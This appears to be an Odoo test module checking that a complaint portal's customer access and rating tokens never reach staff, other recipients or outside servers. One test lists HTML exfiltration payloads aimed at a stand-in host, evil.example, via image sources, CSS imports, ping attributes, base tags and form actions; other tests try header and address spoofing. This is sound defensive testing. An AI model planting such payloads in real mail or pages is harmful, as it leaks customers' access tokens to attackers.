"""Tracking link: nobody but its customer gets it, whatever staff read, write and send."""

import json
from base64 import b64encode

from markupsafe import Markup

from odoo.exceptions import AccessError, UserError
from odoo.fields import Command
from odoo.tests import Form, new_test_user, tagged
from odoo.tools import mute_logger

from ...models.contact.complaint_letter import TEMPLATES
from ...models.core.constants import TICKET
from ...models.portal.tracking_link import (
    PLACEHOLDER,
    PLACEHOLDERS,
    with_tokens,
    without_tokens,
)
from .common import ComplaintPortalCommon

ROLES = (
    *("user_employee", "outsider", "own_handler", "team_handler", "handler", "leader"),
    *("manager", "partner_manager"),
)
# Models whose rows are read field by field; those of wizards are among them.
_WALKED = ("complaint.", "mail.", "helpdesk.", "rating.", "portal.", "ir.attachment")
_REFUSALS = ("odoo.addons.base.models.ir_model", "odoo.addons.base.models.ir_rule")


class TrackingLinkCommon(ComplaintPortalCommon):
    """A complaint with letters, drafts, ratings and answers that quote links."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.partner_manager = new_test_user(
            cls.env,
            login="partner_manager",
            groups="helpdesk_mgmt.group_helpdesk_manager,base.group_partner_manager"
            ",base.group_allow_export",
            company_id=cls.company_a.id,
            company_ids=[Command.set(cls.company_a.ids)],
        )
        cls.daughter = cls.env["res.partner"].create(
            {"name": "Clara Weber", "email": "clara@daughter.example"}
        )
        cls.complaint = cls.create_complaint(
            partner_id=cls.customer.id,
            user_id=cls.own_handler.id,
            channel_id=cls.channel_email.id,
            complaint_representative_id=cls.daughter.id,
        ).sudo()
        signed = cls.env["ir.attachment"].create({"name": "signed", "raw": b"x"})
        cls.consent = cls.env["complaint.consent"].create(
            {
                "ticket_id": cls.complaint.id,
                "partner_id": cls.daughter.id,
                "scope": "decide",
                "attachment_ids": [Command.set(signed.ids)],
            }
        )
        cls.as_handler = cls.complaint.with_user(cls.own_handler)

    def secrets(self):
        """Return what lets one act as the customer or the representative."""
        ticket = self.complaint
        return [
            ticket._portal_ensure_token(),
            self.consent.sudo()._ensure_token(),
            ticket._rating_get_access_token(),
            *(ticket._sign_token(p.id) for p in self.customer | self.daughter),
            *ticket.rating_ids.mapped("access_token"),
        ]

    def assertNoSecret(self, answer, **said):
        if not isinstance(answer, str):
            answer = json.dumps(answer, default=str)
        with self.subTest(**said):
            for secret in self.secrets():
                self.assertNotIn(secret, answer)

    def template(self, **vals):
        return self.env["mail.template"].create(
            {
                "name": "News",
                "model_id": self.env["ir.model"]._get_id(TICKET),
                "subject": "News",
                "email_to": "{{ object.complaint_email_to }}",
                "body_html": '<p><a t-att-href="object.get_base_url() +'
                " object.get_portal_url(query_string='&amp;rating=5')\">See it</a>"
                "<a t-att-href=\"object.get_base_url() + '/rate/' +"
                " object._rating_get_access_token() + '/5'\">Good</a></p>",
                **vals,
            }
        )

    def composer(self, template=None, **vals):
        Composer = self.env["mail.compose.message"].with_user(self.own_handler)
        return Composer.with_context(
            default_model=TICKET,
            default_res_ids=self.complaint.ids,
            default_template_id=template and template.id,
        ).create(vals)

    def share_with(self, partner):
        """Share the complaint with somebody by Odoo's own dialog."""
        return (
            self.env["portal.share"]
            .with_user(self.partner_manager)
            .create(
                {
                    "res_model": TICKET,
                    "res_id": self.complaint.id,
                    "partner_ids": [Command.set(partner.ids)],
                }
            )
            .action_send_mail()
        )

    def sent(self, send):
        """Return {recipient: what all mails to them say} of what is sent."""
        with self.mock_mail_gateway():
            send()
            self.flush_tracking()
        bodies = {}
        for mail in self._mails:
            everybody = [*mail["email_to"], *(mail["email_cc"] or ())]
            everybody += str(mail["headers"].get("Bcc", "")).split(",")
            for address in filter(None, everybody):
                said = mail["body"] + mail["body_alternative"]
                bodies[address] = bodies.get(address, "") + said
        return bodies

    def assertReached(self, bodies, expected):
        """Check who gets a token in their mail.

        :param dict expected: part of an address -> the token, '' for none at all
        """
        tokens = {self.complaint.access_token, self.consent.sudo().access_token}
        for part, token in expected.items():
            found = [said for address, said in bodies.items() if part in address]
            self.assertTrue(found, f"{part} gets a mail, of {list(bodies)}")
            for said in found:
                for other in PLACEHOLDERS:
                    self.assertNotIn(other, said)
                if token:
                    self.assertIn(token, said)
                for other in tokens - {token, False}:
                    self.assertNotIn(other, said)
                if not token:
                    self.assertNotIn(self.complaint._rating_get_access_token(), said)


@tagged("post_install", "-at_install")
class TestTrackingLink(TrackingLinkCommon):
    # ---------------------------------------------------
    # Reading
    # ---------------------------------------------------

    @classmethod
    def send_all(cls):
        """Have everything there is about a complaint, links and all."""
        complaint, as_handler = cls.complaint, cls.as_handler
        template = cls.env.ref("crm_complaints.mail_template_update")
        as_handler.message_post_with_source(
            template, subtype_xmlid="mail.mt_comment", partner_ids=cls.customer.ids
        )
        template.with_user(cls.own_handler).sudo().send_mail(complaint.id)
        link = complaint._get_share_url(redirect=True, pid=cls.customer.id)
        rating = complaint._rating_get_access_token()
        quoted = link.replace("&", "%26").replace("=", "%3D")
        cls.env["mail.message"].flush_model()
        complaint.message_post(
            body=Markup(
                '<p>You wrote: <a href="%s">see</a> <a href="https://safe.example/?u=%s">'
                'see</a> <a href="/rate/%s/5">rate</a> <a href="/my/ticket/%s/%s">x</a>'
            )
            % (link, quoted, rating, complaint.id, complaint.access_token),
            author_id=cls.customer.id,
            message_type="email",
            subtype_xmlid="mail.mt_comment",
        )
        cls.env["mail.scheduled.message"].with_user(cls.own_handler).create(
            {
                "model": TICKET,
                "res_id": complaint.id,
                "author_id": cls.own_handler.partner_id.id,
                "subject": "Later",
                "body": as_handler.get_portal_url(),
                "scheduled_date": "2026-03-03 09:00:00",
            }
        )
        Composer = cls.env["mail.compose.message"].with_user(cls.own_handler)
        Composer.with_context(
            default_model=TICKET,
            default_res_ids=complaint.ids,
            default_template_id=template.id,
        ).create({})
        for kind in sorted(
            TEMPLATES.keys() - {"extension", "not_reached", "agreement"}
        ):
            cls.env["complaint.letter.compose"].with_user(cls.own_handler).create(
                {"ticket_id": complaint.id, "kind": kind}
            )
        cls.env["complaint.extend"].with_user(cls.own_handler).create(
            {"ticket_id": complaint.id, "date": "2026-03-20", "reason": "More time"}
        )
        complaint._complaint_keep_acknowledgement()
        complaint.with_user(cls.own_handler)._complaint_send_letters(
            "update",
            lambda some, way: some._complaint_render_letter("update"),
            "mail",
        )
        cls.env["portal.share"].with_user(cls.partner_manager).create(
            {
                "res_model": TICKET,
                "res_id": complaint.id,
                "partner_ids": [Command.set(cls.customer.ids)],
            }
        )
        cls.env["complaint.dead.letter"].create(
            {
                "ticket_id": complaint.id,
                "name": "Lost",
                "raw": b64encode(b"Subject: x\n\nx"),
                "team_id": complaint.team_id.id,
                "company_id": complaint.company_id.id,
            }
        )

    @mute_logger(*_REFUSALS)
    def test_no_role_reads_it_in_any_field(self):
        with self.mock_mail_gateway():
            self.send_all()
        self.env.flush_all()
        secrets = self.secrets()
        seen, read = set(), 0
        for role in ROLES:
            user = getattr(self, role)
            for name, model in sorted(self.registry.items()):
                if model._abstract or not name.startswith(_WALKED):
                    continue
                Model = self.env[name].with_user(user)
                if not Model.has_access("read"):
                    continue
                records = Model.with_context(active_test=False).search(
                    [], limit=40, order="id desc"
                )
                names = [
                    field.name
                    for field in Model._fields.values()
                    if records and Model._has_field_access(field, "read")
                ]
                read += len(names)
                said = self.read_all(records, names)
                with self.subTest(user=role, model=name):
                    for secret in secrets:
                        self.assertNotIn(secret, said)
                if said:
                    seen.add(name)
        self.assertGreater(read, 2000)
        self.assertLessEqual(
            {
                TICKET,
                "mail.message",
                "mail.compose.message",
                "mail.scheduled.message",
                "complaint.letter",
                "complaint.letter.compose",
                "complaint.consent",
                "complaint.extend",
                "portal.share",
                "rating.rating",
            },
            seen,
        )

    def read_all(self, records, names):
        """Return what fields of records say; each for itself where one cannot be read."""
        try:
            with self.env.cr.savepoint():
                return str(records.read(names))
        except (UserError, TypeError, ValueError):
            if len(names) < 2:
                return ""
        middle = len(names) // 2
        return self.read_all(records, names[:middle]) + self.read_all(
            records, names[middle:]
        )

    @mute_logger(*_REFUSALS)
    def test_no_role_asks_for_it_otherwise(self):
        token = self.complaint._portal_ensure_token()
        mine = [("id", "=", self.complaint.id)]
        for role in ROLES:
            Ticket = self.Ticket.with_user(getattr(self, role))
            ticket = Ticket.browse(self.complaint.id)
            for name in ("access_token", "duplicate_id.access_token"):
                for ask in (
                    lambda Ticket=Ticket, name=name: Ticket.search(
                        [(name, "=like", f"{token[:4]}%")]
                    ),
                    lambda Ticket=Ticket, name=name: Ticket.search([(name, "!=", 0)]),
                    lambda Ticket=Ticket, name=name: Ticket.search(
                        mine, order=f"{name} desc"
                    ),
                    lambda Ticket=Ticket, name=name: Ticket.formatted_read_group(
                        mine, [name], ["__count"]
                    ),
                    lambda Ticket=Ticket, name=name: Ticket.formatted_read_group(
                        mine, [], [f"{name}:array_agg"]
                    ),
                    lambda ticket=ticket, name=name: ticket.read([name]),
                    lambda ticket=ticket: ticket.access_token,
                    lambda ticket=ticket: ticket.web_read({"access_token": {}}),
                    lambda ticket=ticket: ticket.filtered_domain(
                        [("access_token", "=", token)]
                    ),
                ):
                    with self.subTest(user=role, ask=ask, name=name):
                        try:
                            with self.env.cr.savepoint():
                                answer = ask()
                        except (AccessError, ValueError, KeyError):
                            continue
                        self.assertFalse(answer and token in str(answer))
                        self.fail("answered")
            self.assertNotIn("access_token", Ticket.fields_get())
        with self.assertRaises(AccessError):
            self.complaint.with_user(self.partner_manager).export_data(["access_token"])

    def test_methods_that_return_links_return_a_placeholder(self):
        for role in ("own_handler", "handler", "leader", "manager"):
            ticket = self.complaint.with_user(getattr(self, role))
            for answer in (
                ticket.get_portal_url(),
                ticket.get_portal_url(suffix="/rating"),
                ticket._get_share_url(redirect=True, pid=self.customer.id),
                ticket._get_access_action(force_website=True),
                ticket._message_get_suggested_recipients(),
                self.env["portal.share"]
                .with_user(self.partner_manager)
                .with_context(active_model=TICKET, active_id=ticket.id)
                .default_get(["share_link", "res_id", "res_model"]),
            ):
                self.assertNoSecret(answer, user=role)
            self.assertIn(PLACEHOLDER, ticket.get_portal_url())
        # who prepares a letter sees no more than who reads it
        template = self.template()
        composer = self.composer(template)
        self.assertIn(PLACEHOLDER, composer.body)
        self.assertNoSecret(composer.body)
        form = Form(
            self.env["complaint.letter.compose"]
            .with_user(self.own_handler)
            .with_context(default_ticket_id=self.complaint.id, default_kind="update")
        )
        self.assertIn(PLACEHOLDER, form.letter)
        self.assertNoSecret(form.letter)

    def test_staff_open_the_page_from_a_draft(self):
        self.complaint.sudo()._portal_ensure_token()
        self.as_user(self.own_handler)
        page = self.get(self.as_handler.get_portal_url())
        self.assertIn(self.complaint.number, page.text)
        self.assertNotIn(self.path(act="write"), self.actions(page))
        self.as_user(None)
        self.get(self.as_handler.get_portal_url(), 404)

    # ---------------------------------------------------
    # To whom it goes
    # ---------------------------------------------------

    def tokens(self):
        return (
            self.complaint._portal_ensure_token(),
            self.consent.sudo()._ensure_token(),
        )

    def test_each_way_of_sending_reaches_the_customer_with_the_link(self):
        token, theirs = self.tokens()
        template = self.template()
        sudo = template.sudo()
        letter = {"ticket_id": self.complaint.id, "kind": "update"}
        letter |= {
            "done": "I asked.",
            "still_open": "The report.",
            "who": "We",
            "next_date": "2026-03-20",
        }
        Compose = self.env["complaint.letter.compose"].with_user(self.own_handler)
        body = self.composer(template).body
        both = {"anna@weber": token, "clara@daughter": theirs}
        for name, send, expected in (
            (
                "template",
                lambda: sudo.send_mail(self.complaint.id, force_send=True),
                {"anna@weber": token},
            ),
            (
                "queued",
                lambda: (
                    sudo.browse(sudo.id)
                    and self.env["mail.mail"]
                    .browse(sudo.send_mail(self.complaint.id))
                    .send()
                ),
                {"anna@weber": token},
            ),
            (
                "composer",
                lambda: self.composer(
                    template, partner_ids=self.customer.ids
                )._action_send_mail(),
                {"anna@weber": token},
            ),
            (
                "many at once",
                lambda: self.composer(
                    template, composition_mode="mass_mail", force_send=True
                )._action_send_mail(),
                {"anna@weber": token},
            ),
            (
                "chatter",
                lambda: self.as_handler.message_post(
                    body=Markup(body),
                    partner_ids=(self.customer | self.daughter).ids,
                    subtype_xmlid="mail.mt_comment",
                ),
                both,
            ),
            ("letter", lambda: Compose.create(letter).action_send(), both),
            (
                "scheduled",
                lambda: (
                    self.env["mail.scheduled.message"]
                    .with_user(self.own_handler)
                    .create(
                        {
                            "model": TICKET,
                            "res_id": self.complaint.id,
                            "author_id": self.own_handler.partner_id.id,
                            "subject": "Later",
                            "body": body,
                            "partner_ids": [Command.set(self.customer.ids)],
                            "scheduled_date": "2026-03-03 09:00:00",
                        }
                    )
                    .post_message()
                ),
                {"anna@weber": token},
            ),
            (
                "shared",
                lambda: self.share_with(self.customer),
                {"anna@weber": token},
            ),
        ):
            with self.subTest(name):
                self.assertReached(self.sent(send), expected)
                for message in self.complaint.message_ids:
                    self.assertNoSecret(message.body or "", way=name)

    def test_a_quoted_link_is_not_told_on(self):
        """An answer quotes it; those who are notified of it read no token."""
        token, theirs = self.tokens()
        self.own_handler.notification_type = "email"
        self.complaint.message_subscribe(self.own_handler.partner_id.ids)
        link = self.complaint._get_share_url(redirect=True, pid=self.customer.id)
        base = self.complaint.get_base_url()
        page = f"{base}/my/complaints/{self.complaint.id}?access_token"
        body = Markup('<p>Yes. <a href="%s">%s</a> <a href="%s=%s">x</a> %s</p>') % (
            *(base + link, base + link, page, token),
            f"{page}={theirs} https://parcel.example/?access_token=abc",
        )
        bodies = self.sent(
            lambda: self.complaint.message_post(
                body=body,
                author_id=self.customer.id,
                message_type="email",
                subtype_xmlid="mail.mt_comment",
            )
        )
        self.assertReached(
            bodies, {self.own_handler.email: "", "clara@daughter": theirs}
        )
        message = self.complaint.message_ids[0]
        self.assertIn("https://parcel.example/?access_token=abc", message.body)
        self.assertNoSecret(message.body)
        other = self.create_complaint(description=body, partner_id=self.customer.id)
        self.assertNoSecret(other.sudo().description)
        self.assertIn("https://parcel.example/?access_token=abc", other.description)

    def test_a_rating_link_of_a_template_is_the_customers_alone(self):
        sudo = self.template().sudo()
        bodies = self.sent(lambda: sudo.send_mail(self.complaint.id, force_send=True))
        rating = self.complaint._rating_get_access_token()
        (said,) = (said for to, said in bodies.items() if "anna@weber" in to)
        self.assertIn(f"/rate/{rating}/5", said)

    @mute_logger("odoo.addons.mail.models.mail_mail")
    def test_whoever_else_gets_a_letter_gets_no_token(self):
        token, theirs = self.tokens()
        template = self.template(email_to=False)
        body = Markup(self.composer(template).body)
        self.handler.notification_type = "email"
        mine = self.handler.partner_id
        stranger = self.env["res.partner"].create(
            {"name": "Sam", "email": "sam@elsewhere.example"}
        )
        all_of_them = self.customer | self.daughter | mine | stranger
        expected = {
            "anna@weber": token,
            "clara@daughter": theirs,
            "sam@elsewhere": "",
            self.handler.email: "",
        }
        comment = {"subtype_xmlid": "mail.mt_comment"}

        def from_template(**values):
            return lambda: template.sudo().send_mail(
                self.complaint.id, force_send=True, email_values=values
            )

        for name, send, reached in (
            (
                "chatter",
                lambda: self.as_handler.message_post(
                    body=body, partner_ids=all_of_them.ids, **comment
                ),
                expected,
            ),
            (
                "address",
                lambda: self.as_handler.message_post(
                    body=body,
                    outgoing_email_to="sam@elsewhere.example",
                    **comment,
                ),
                {"sam@elsewhere": ""},
            ),
            (
                "two in one",
                from_template(email_to="anna@weber.example, sam@elsewhere.example"),
                {"sam@elsewhere": ""},
            ),
            (
                "copy",
                from_template(
                    email_to="anna@weber.example", email_cc="sam@elsewhere.example"
                ),
                {"sam@elsewhere": ""},
            ),
            (
                "contacts in one mail",
                from_template(recipient_ids=[Command.set(all_of_them.ids)]),
                expected,
            ),
            (
                "name that is an address",
                from_template(email_to='"anna@weber.example" <sam@elsewhere.example>'),
                {"sam@elsewhere": ""},
            ),
            (
                "shared",
                lambda: self.share_with(stranger),
                {"sam@elsewhere": ""},
            ),
            (
                "composer",
                lambda: self.composer(
                    template, partner_ids=all_of_them.ids
                )._action_send_mail(),
                expected,
            ),
        ):
            with self.subTest(name):
                bodies = self.sent(send)
                self.assertReached(bodies, reached)
                for secret in self.complaint.rating_ids.mapped("access_token"):
                    for address, said in bodies.items():
                        if "anna@weber" not in address:
                            self.assertNotIn(secret, said)

    def test_headers_deliver_it_to_nobody_else(self):
        self.tokens()
        for name in ("Bcc", "bcc", "Cc", "To", "X-Forge-To", "Resent-To"):
            with self.subTest(name), self.mock_mail_gateway():
                self.as_handler.message_post(
                    body=Markup(self.composer(self.template()).body),
                    partner_ids=self.customer.ids,
                    subtype_xmlid="mail.mt_comment",
                    mail_headers={name: "sam@elsewhere.example"},
                )
                self.flush_tracking()
                self.assertTrue(self._mails)
                self.assertNotIn("sam@elsewhere", str(self._mails))

    def test_the_customer_takes_it_to_no_other_server(self):
        """In what is loaded, or leads elsewhere, no token is put."""
        base = self.complaint.get_base_url()
        own = f"{base}/my/complaints/7?access_token={PLACEHOLDER}"
        tokens = {PLACEHOLDER: lambda: "TOKEN"}
        for body in (
            f'<a href="{own}">x</a>',
            f'<p>Hello <a class="b" href="{own}&amp;rating=5#no_rating">x</a> {own}</p>',
            f"<html><body><a href='{own}'>{own}</a></body></html>",
            f'<a href="/my/complaints/7/rating?access_token={PLACEHOLDER}">x</a>',
        ):
            with self.subTest(body):
                filled = with_tokens(body, tokens, 7, base)
                self.assertIn("TOKEN", filled)
                self.assertNotIn(PLACEHOLDER, filled)
        for body in (
            f'<img src="https://evil.example/?access_token={PLACEHOLDER}">',
            f'<img src="{own}">',
            f'<a href="https://evil.example/?u={own}">x</a>',
            f'<a href="{base}.evil.example/my/complaints/7?access_token={PLACEHOLDER}">',
            f'<a href="{base}/my/complaints/8?access_token={PLACEHOLDER}">x</a>',
            f'<a href="{own}&amp;next=https://evil.example/">x</a>',
            f"<img src='https://evil.example/?<a href=\"{own}\">'>",
            f'<p style="background: url(https://evil.example/{PLACEHOLDER})">x</p>',
            f"<style>@import url(https://evil.example/{PLACEHOLDER})</style>",
            f'<!--[if mso]><img src="https://evil.example/{PLACEHOLDER}"><![endif]-->',
            f'<base href="https://evil.example"><a href="{own}">x</a>',
            f'<a href="{own}">x</a><img src="https://evil.example/{PLACEHOLDER}">',
            f'<a href="//evil.example/my/complaints/7?access_token={PLACEHOLDER}">x</a>',
            f'<a ping="https://evil.example/{PLACEHOLDER}" href="{own}">x</a>',
            f'<form action="{own}"><input></form>',
        ):
            with self.subTest(body):
                filled = with_tokens(body, tokens, 7, base)
                self.assertNotIn("TOKEN", filled)
                self.assertNotIn(PLACEHOLDER, filled)

    def test_addresses_of_others_stay_as_they_were_written(self):
        for text in (
            "https://parcel.example/?hash=abc123&access_token=xyz&signup=1",
            "https://shop.example/rate/12345/5 https://shop.example/my/ticket/7/abc",
            "access_token=",
        ):
            self.assertEqual(without_tokens(text), text)

    def test_ordinary_tickets_are_shared_as_before(self):
        ordinary = self.create_ticket(self.outsider, partner_id=self.customer.id)
        ticket = ordinary.with_user(self.partner_manager)
        share = (
            self.env["portal.share"]
            .with_user(self.partner_manager)
            .with_context(active_model=TICKET, active_id=ticket.id)
            .create({"partner_ids": [Command.set(self.stranger.partner_id.ids)]})
        )
        token = ticket.sudo().access_token
        self.assertTrue(token)
        self.assertIn(token, share.share_link)
        bodies = self.sent(share.action_send_mail)
        self.assertIn(token, "".join(bodies.values()))
        self.assertIn(token, ticket.get_portal_url())
